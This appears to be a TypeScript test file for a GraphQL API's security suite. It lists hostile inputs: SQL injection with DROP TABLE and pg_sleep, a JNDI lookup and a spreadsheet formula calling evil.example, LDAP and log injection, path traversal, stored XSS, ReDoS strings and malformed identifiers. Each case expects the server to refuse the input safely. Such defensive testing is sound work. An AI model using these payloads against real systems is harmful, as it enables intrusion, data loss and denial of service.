import type { ActiveCase, HostileCase } from '../case.ts';
import { harmless, refusedDocument, refusedValue, refusedWrite } from '../expectations.ts';
import { ask, askWith, bytes } from '../shots.ts';

const SEARCH =
  'query ($s: String) { laureates(first: 1, filter: { search: $s }) { totalCount nodes { id } } }';
const NODE = 'query ($id: ID!) { node(id: $id) { id ... on Territory { name } } }';
const CHECK = 'query ($input: EligibilityInput!) { checkEligibility(input: $input) { verdict } }';
const CREATE = 'mutation ($input: CreateApiKeyInput!) { createApiKey(input: $input) { __typename } }';
const POSTGRES = [/syntax error/, /\bpg_/, /22021/, /invalid byte/, /QueryFailed/];

const search = { category: 'injection', severity: 'high', twin: 'a search' } as const;
const id = { category: 'id', severity: 'medium', twin: 'a node by its id' } as const;
const write = { severity: 'medium', twin: 'the keys of an administrator' } as const;
const eligibility = { severity: 'medium', twin: 'an eligibility check' } as const;

const GOOD = {
  edition: 4,
  legalForm: '9220',
  actionTerritories: ['COM:92050'],
  requestedCents: 1_200_000,
  themeCodes: [],
};
const check = (wrong: Record<string, unknown>) => ask(CHECK, { input: { ...GOOD, ...wrong } });
const create = (wrong: Record<string, unknown>) =>
  ask(
    CREATE,
    { input: { idempotencyKey: 'values', partner: 'Partenaire', scopes: ['statistics:read'], ...wrong } },
    'admin',
  );

const SEARCHES: readonly (readonly [id: string, text: string, what: string])[] = [
  ['INJ-000', "' OR '1'='1", 'a condition that is always true'],
  ['INJ-001', "'; DROP TABLE application;--", 'the end of a table'],
  ['INJ-002', "\\' OR 1=1--", 'an escaped quotation mark'],
  ['INJ-005', '1; SELECT pg_sleep(10)--', 'a nap of ten seconds'],
  ['INJ-006', '$$;select pg_sleep(10);$$', 'a nap between dollars'],
  ['INJ-008', '{"$gt":""}', 'an operator of another database'],
  ['INJ-501', '%', 'a wildcard alone'],
  ['INJ-502', '\\', 'a backslash alone'],
  ['INJ-503', '\u0024{7*7}{{7*7}}<%= 7*7 %>', 'templates of three languages'],
  ['INJ-504', '\u0024{jndi:ldap://evil.example/x}', 'an address to look up'],
  ['INJ-505', '*)(uid=*))(|(uid=*', 'a filter of LDAP'],
  ['INJ-506', '../../../../etc/passwd', 'a path'],
  ['INJ-507', '\u202e\u0000', 'a null byte behind a change of direction'],
  ['INJ-508', '\uffff\ufffe\ufdd0', 'code points that are no characters'],
  ['INJ-509', 'a\u0301'.repeat(3_000), 'accents on accents'],
  ['INJ-510', '👩‍👩‍👧‍👦'.repeat(500), 'families of emoji'],
];

const IDS: readonly (readonly [id: string, value: string, what: string])[] = [
  ['VAL-102', 'COM:92050\n', 'a line break behind it'],
  ['VAL-103', '-1', 'a negative number'],
  ['VAL-104', '01x', 'a number that ends as a letter'],
  ['VAL-107', 'COM:92050\u0000', 'a null byte behind it'],
  ['VAL-111', '9'.repeat(10_000), 'ten thousand digits'],
  ['VAL-501', 'com:92050', 'its prefix in small letters'],
  ['VAL-502', 'COM:９２０５０', 'digits of full width'],
  ['VAL-503', 'COM:٩٢٠٥٠', 'Arabic digits'],
  ['VAL-504', ' COM:92050', 'a space before it'],
  ['VAL-505', 'COM:92050:x', 'a third part'],
  ['VAL-506', 'CALL:3', 'a prefix that no node has'],
  ['VAL-507', 'APP:../../ORG:espaces', 'a path in it'],
  ['VAL-508', '__proto__:1', 'the prototype for a prefix'],
  ['VAL-509', 'constructor', 'a property of all objects'],
  ['VAL-510', 'KEY:1', 'the prefix of a key'],
  ['VAL-511', 'COM:92050%00', 'an encoded null byte'],
];

/** Values of the right type that mean harm, or mean nothing. */
export const values: readonly HostileCase[] = [
  ...SEARCHES.map(
    ([name, text, what]): ActiveCase => ({
      ...search,
      id: name,
      intent: `Search for ${what}.`,
      source:
        Number(name.slice(4)) < 500 ? 'OWASP GraphQL Cheat Sheet, injection; DVGA, SQL injection' : 'own',
      shot: ask(SEARCH, { s: text }),
      expect: harmless({ never: POSTGRES, maxBytes: 60_000 }),
    }),
  ),
  ...[
    'organizations(search: $s, first: 1)',
    'territorySearch(search: $s, first: 1)',
    'organizations(filter: { within: $s }, first: 1)',
  ].map(
    (field, n): ActiveCase => ({
      ...search,
      id: `INJ-52${n}`,
      intent: `Close a quotation by ${field.split('(')[0]}.`,
      source: 'own: every text argument reaches SQL somewhere',
      shot: ask(`query ($s: String!) { ${field} { __typename } }`, { s: `x') UNION SELECT '1` }),
      expect: harmless({ never: POSTGRES }),
      twin: 'a search of organisations',
    }),
  ),
  {
    ...search,
    id: 'INJ-022',
    category: 'unicode',
    severity: 'medium',
    intent: 'Send half of a character.',
    source: 'lone surrogates',
    shot: bytes(`{"query":"${SEARCH}","variables":{"s":"\\ud800"}}`),
    expect: harmless({ never: POSTGRES }),
  },
  {
    ...search,
    id: 'INJ-530',
    category: 'unicode',
    severity: 'medium',
    intent: 'Send half of a character in an identifier.',
    source: 'own: lone surrogates reach keys too',
    shot: bytes(`{"query":"${NODE}","variables":{"id":"ORG:\\ud800"}}`),
    expect: harmless({ data: 'none', never: POSTGRES }),
    twin: 'a node by its id',
  },
  {
    ...search,
    id: 'INJ-531',
    category: 'log-injection',
    severity: 'low',
    intent: 'Forge a line of the log by a line break in a search.',
    source: 'own: ASVS 5.0, 16.4.1',
    shot: ask(SEARCH, { s: 'x\r\n{"level":60,"msg":"forged"}' }),
    expect: harmless({ never: [/forged/] }),
  },
  {
    ...search,
    id: 'DOS-044',
    category: 'regex',
    severity: 'medium',
    intent: 'Make a pattern of addresses run for hours.',
    source: 'regular expression denial of service',
    shot: ask(SEARCH, { s: `${'a.'.repeat(25_000)}@` }),
    expect: harmless(),
  },
  {
    ...search,
    id: 'DOS-045',
    category: 'regex',
    severity: 'medium',
    intent: 'Make a search by wildcards compare everything with everything.',
    source: 'LIKE with many wildcards',
    shot: ask(SEARCH, { s: '%_'.repeat(2_000) }),
    expect: harmless(),
  },
  {
    ...search,
    id: 'DOS-550',
    category: 'regex',
    severity: 'medium',
    intent: 'Make the pattern of SIRET numbers run for hours.',
    source: 'own: patterns of formats',
    shot: ask('query ($s: String!) { organization(siret: $s) { id } }', { s: ' '.repeat(50_000) }),
    expect: refusedValue(),
    twin: 'a search of organisations',
  },
  ...IDS.map(
    ([name, value, what]): ActiveCase => ({
      ...id,
      id: name,
      intent: `Ask for an object by an identifier with ${what}.`,
      source: Number(name.slice(4)) < 500 ? 'abuse of the ID scalar' : 'own: abuse of our identifiers',
      shot: ask(NODE, { id: value }),
      expect: refusedValue({ status: [200, 400], never: POSTGRES, data: 'none' }),
    }),
  ),
  {
    ...id,
    id: 'VAL-110',
    intent: 'Give an object for an identifier.',
    source: 'abuse of the ID scalar',
    shot: ask(NODE, { id: { a: 1 } }),
    expect: refusedDocument(),
  },
  {
    ...id,
    id: 'VAL-512',
    intent: 'Give a number for an identifier that is a text.',
    source: 'own: the ID scalar takes integers',
    shot: ask(NODE, { id: 92_050 }),
    expect: refusedValue(),
  },
  {
    ...id,
    id: 'VAL-513',
    intent: 'Ask for twelve filters of five thousand values each.',
    source: 'own: lists in filters',
    shot: ask('query ($s: [String!]) { organizations(filter: { sirets: $s }, first: 1) { nodes { id } } }', {
      s: Array.from({ length: 5_000 }, (_, n) => String(n).padStart(14, '7')),
    }),
    expect: refusedValue(),
    twin: 'a search of organisations',
  },
  {
    ...id,
    id: 'VAL-514',
    intent: 'Mix values of two types in one list.',
    source: 'own: lists in filters',
    shot: ask('query ($e: [Int!]) { laureates(filter: { editions: $e }) { totalCount } }', {
      e: [1, '2', null],
    }),
    expect: refusedDocument(),
    twin: 'a search',
  },
  {
    ...id,
    id: 'VAL-515',
    intent: 'Ask for a day that the calendar does not have.',
    source: 'own: dates that roll over',
    shot: ask('query ($d: Date) { laureates(filter: { asOf: $d }) { totalCount } }', { d: '2025-02-30' }),
    expect: refusedDocument(),
    twin: 'a search',
  },
  {
    ...id,
    id: 'VAL-516',
    intent: 'Ask for the events of the year three hundred thousand.',
    source: 'own: instants beyond what SQL holds',
    shot: ask('query ($d: DateTime) { events(first: 1, filter: { from: $d }) { totalCount } }', {
      d: '+300000-01-01T00:00:00Z',
    }),
    expect: refusedValue(),
    twin: 'a short document',
  },
  {
    ...id,
    id: 'VAL-517',
    intent: 'Ask for amounts beyond what a number holds exactly.',
    source: 'own: integers above 2^53',
    shot: bytes(
      '{"query":"query ($c: SafeInt) { laureates(filter: { minCents: $c }) { totalCount } }","variables":{"c":9007199254740993}}',
    ),
    expect: refusedDocument(),
    twin: 'a search',
  },
  {
    ...write,
    id: 'VAL-002',
    category: 'unicode',
    intent: 'Hide the true end of a name by writing it from right to left.',
    source: 'bidirectional overrides',
    shot: create({ partner: 'abc\u202efdp.exe' }),
    expect: refusedWrite(),
  },
  {
    ...write,
    id: 'VAL-003',
    category: 'unicode',
    intent: 'Store five thousand accents on one letter.',
    source: 'oversized text',
    shot: create({ partner: `a${'\u0301'.repeat(5_000)}` }),
    expect: refusedWrite(),
  },
  {
    ...write,
    id: 'VAL-005',
    category: 'xss',
    intent: 'Store a script that some page will run.',
    source: 'Damn Vulnerable GraphQL Application, stored scripts',
    shot: create({ idempotencyKey: 'values-5', partner: '<img src=x onerror=alert(1)>' }),
    expect: harmless({
      headers: {
        'content-type': /^application\/(json|graphql-response\+json)/,
        'x-content-type-options': /^nosniff$/,
      },
    }),
  },
  {
    ...write,
    id: 'VAL-006',
    category: 'csv-injection',
    intent: 'Store a formula that a spreadsheet will run.',
    source: 'OWASP, CSV injection',
    shot: create({ idempotencyKey: 'values-6', partner: '=HYPERLINK("http://evil.example","x")' }),
    expect: harmless(),
  },
  {
    ...write,
    id: 'VAL-030',
    category: 'mass-assignment',
    severity: 'high',
    intent: 'Set what only the platform sets, along with what may be set.',
    source: 'ASVS 5.0, 15.3.3',
    shot: create({ id: 'KEY:mine', hash: 'x', revokedAt: null, subject: 'admin', lastUsedOn: '2020-01-01' }),
    expect: refusedDocument(),
  },
  {
    ...write,
    id: 'VAL-032',
    category: 'list',
    intent: 'Give five thousand rights.',
    source: 'lists in inputs',
    shot: create({ scopes: Array.from({ length: 5_000 }, () => 'statistics:read') }),
    expect: refusedWrite(),
  },
  {
    ...write,
    id: 'VAL-033',
    category: 'type',
    intent: 'Give an object where a text is due.',
    source: 'values of another type',
    shot: create({ partner: { toString: 'x' } }),
    expect: refusedDocument(),
  },
  {
    ...write,
    id: 'VAL-530',
    category: 'validation',
    intent: 'Store a name that is only spaces.',
    source: 'own: trimming',
    shot: create({ partner: ' \u00a0\u2003 ' }),
    expect: refusedWrite(),
  },
  {
    ...write,
    id: 'VAL-531',
    category: 'validation',
    intent: 'Order a right that does not exist.',
    source: 'own: rights are a closed list',
    shot: create({ scopes: ['admin:*', 'statistics:read '] }),
    expect: refusedWrite(),
  },
  {
    ...write,
    id: 'VAL-532',
    category: 'validation',
    intent: 'Order a key that lives for a thousand years.',
    source: 'own: bounds of a life',
    shot: create({ months: 12_000 }),
    expect: refusedWrite(),
  },
  {
    ...write,
    id: 'VAL-533',
    category: 'validation',
    intent: 'Accept a key from the whole internet by a network that is none.',
    source: 'own: networks as text',
    shot: create({ networks: ['0.0.0.0/99', '::/129', '10.0.0.1; DROP TABLE x'] }),
    expect: refusedWrite(),
  },
  {
    ...eligibility,
    id: 'VAL-013',
    category: 'amount',
    severity: 'high',
    intent: 'Overflow a number of 32 bits.',
    source: 'integer overflow',
    shot: check({ edition: 2_147_483_648 }),
    expect: refusedDocument(),
  },
  {
    ...eligibility,
    id: 'VAL-014',
    category: 'amount',
    intent: 'Ask for a tenth of a cent.',
    source: 'fractions of money',
    shot: check({ requestedCents: 0.1 }),
    expect: refusedDocument(),
  },
  {
    ...eligibility,
    id: 'VAL-540',
    category: 'amount',
    intent: 'Ask for less than nothing.',
    source: 'own: negative money',
    shot: check({ requestedCents: -1 }),
    expect: refusedValue(),
  },
  ...(
    [
      ['VAL-020', '1234567890123', 'thirteen digits'],
      ['VAL-021', '１２３４５６７８９０１２３４', 'digits of full width'],
      ['VAL-022', '73282932000074\n', 'a line break behind it'],
      ['VAL-541', '73282932000075', 'a digit that the others contradict'],
      ['VAL-542', '7328293200007O', 'the letter O for a zero'],
      ['VAL-543', '73282932000074\u200b', 'a space that nobody sees'],
    ] as const
  ).map(
    ([name, siret, what]): ActiveCase => ({
      ...eligibility,
      id: name,
      category: 'siret',
      intent: `Give a SIRET with ${what}.`,
      source: Number(name.slice(4)) < 500 ? 'formats of identifiers' : 'own: formats of identifiers',
      shot: check({ siret }),
      expect: refusedValue(),
    }),
  ),
  {
    ...eligibility,
    id: 'VAL-544',
    category: 'list',
    intent: 'Name five thousand territories of one project.',
    source: 'own: lists in inputs',
    shot: check({ actionTerritories: Array.from({ length: 5_000 }, () => 'COM:92050') }),
    expect: refusedValue(),
  },
  ...(
    [
      ['CUR-501', (cursor: string) => `${cursor}x`, 'with a letter more'],
      ['CUR-502', (cursor: string) => cursor.slice(2), 'without its beginning'],
      [
        'CUR-503',
        () => Buffer.from('["AWARD_DATE_DESC",["2025",{"$ne":1}]]').toString('base64url'),
        'made by hand',
      ],
      ['CUR-504', () => Buffer.from("x' OR 1=1--").toString('base64'), 'that closes a quotation'],
      ['CUR-505', () => 'A'.repeat(20_000), 'of twenty thousand letters'],
      ['CUR-506', () => '', 'of no letter at all'],
      ['CUR-507', () => '\u0000', 'of a null byte'],
    ] as const
  ).map(
    ([name, spoil, what]): ActiveCase => ({
      id: name,
      category: 'cursor',
      severity: 'medium',
      intent: `Continue a list from a cursor ${what}.`,
      source: 'own: cursors are values that come back',
      shot: askWith(
        'query ($a: String) { laureates(first: 2, after: $a) { nodes { id } } }',
        ({ cursors }) => ({
          a: spoil(cursors.laureates),
        }),
      ),
      expect: refusedValue({ never: POSTGRES }),
      twin: 'a second page',
    }),
  ),
  {
    id: 'CUR-508',
    category: 'cursor',
    severity: 'medium',
    intent: 'Continue one list from the cursor of another.',
    source: 'own: cursors are of one list',
    shot: askWith(
      'query ($a: String) { laureates(first: 2, after: $a) { nodes { id } } }',
      ({ cursors }) => ({
        a: cursors.organizations,
      }),
    ),
    expect: refusedValue(),
    twin: 'a second page',
  },
  {
    id: 'CUR-509',
    category: 'cursor',
    severity: 'medium',
    intent: 'Continue a list in an order that is not its cursor’s.',
    source: 'own: cursors are of one order',
    shot: askWith(
      'query ($a: String) { laureates(first: 2, after: $a, orderBy: NAME_ASC) { nodes { id } } }',
      ({ cursors }) => ({ a: cursors.laureates }),
    ),
    expect: refusedValue(),
    twin: 'a second page',
  },
];
